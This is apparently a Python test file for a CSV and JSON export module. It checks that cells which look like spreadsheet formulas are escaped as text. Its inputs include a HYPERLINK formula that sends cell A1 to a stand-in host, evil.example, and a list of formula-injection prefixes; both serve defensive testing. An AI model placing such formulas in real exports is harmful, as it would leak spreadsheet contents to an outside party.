"""Records to take away: CSV whose cells no program carries out, JSON with every place."""

import csv
import io
import json
from pathlib import Path

import pytest

from agent.booking.batch import PERSON
from perception.extraction.record import Leaf
from tests.ui.console.documents.shelves import read_sheet
from ui.console.documents.records import as_csv, as_json, cell
from ui.console.documents.shelf import Shelf

EVIL = '=HYPERLINK("http://evil.example?"&A1,"total")'


@pytest.mark.parametrize(
    "text",
    [
        EVIL,
        "+1",
        "-1+2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "|calc",
        "%0A=1",
        "\u00a0=1",
    ],
)
def test_what_looks_like_a_formula_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"


def test_numbers_and_plain_words_are_as_they_are() -> None:
    assert [cell(one) for one in (-12.5, 3, None, True, "RE-1", "a=b", "")] == [
        "-12.5",
        "3",
        "",
        "True",
        "RE-1",
        "a=b",
        "",
    ]


def test_a_document_is_a_line_and_a_field_a_column(tmp_path: Path) -> None:
    shelf = Shelf(tmp_path)
    evil = Leaf(path="supplier", value=f'{EVIL}; "a"\n=2', read_by=PERSON)
    sheet = read_sheet(shelf, name="@invoice.pdf", corrections={"supplier": evil})
    content = as_csv([sheet])
    assert content.startswith(b"\xef\xbb\xbf")
    head, line = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    named = dict(zip(head, line, strict=True))
    assert named["document"] == "'@invoice.pdf"
    assert named["supplier"].startswith("'=HYPERLINK")
    assert (named["total"], named["date"], named["corrected"], named["read by"]) == (
        *("65.45", "2024-04-03", "supplier"),
        "labels",
    )
    assert as_csv([]).decode("utf-8-sig").strip() == '"document","read by","corrected","missing"'


def test_json_says_who_said_what_and_where(tmp_path: Path) -> None:
    sheet = read_sheet(Shelf(tmp_path), corrections={"supplier": Leaf(path="supplier", value=EVIL, read_by=PERSON)})
    (record,) = json.loads(as_json([sheet, sheet.model_copy(update={"record": None})]))
    assert record["values"]["supplier"] == EVIL
    assert record["values"]["total"] == 65.45
    assert (record["corrected"], record["sha256"]) == (["supplier"], sheet.sha256)
    leaves = {leaf["path"]: leaf for leaf in record["leaves"]}
    assert leaves["supplier"]["read_by"] == PERSON
    assert leaves["total"]["box"]["left"] > 0
